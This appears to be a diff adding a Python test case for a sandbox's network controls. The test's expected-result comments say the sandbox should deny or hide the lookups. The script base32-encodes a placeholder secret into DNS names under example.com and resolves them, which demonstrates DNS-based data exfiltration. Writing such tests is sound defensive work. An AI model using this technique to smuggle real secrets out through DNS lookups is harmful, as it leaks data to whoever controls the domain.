@@ -1,0 +1,21 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+# Sends a secret out in the names that it looks up: whoever keeps the domain reads them.
+#
+# baseline: skip the real network is never tried
+# expect-status: ok
+# expect-attempt: network look up onsxg4tfoq.example.com denied|hidden
+# expect-attempt-A2: any
+# expect-attempt-B: any
+# within: 8
+# tiers: A A2 B
+import base64
+import socket
+
+secret = base64.b32encode(b"secret").decode().rstrip("=").lower()
+for name in (f"{secret}.example.com", f"two.{secret}.example.com"):
+    try:
+        print(socket.gethostbyname(name))
+        print("SUCCEEDED")
+    except OSError as error:
+        print(error)
+print("STOPPED")
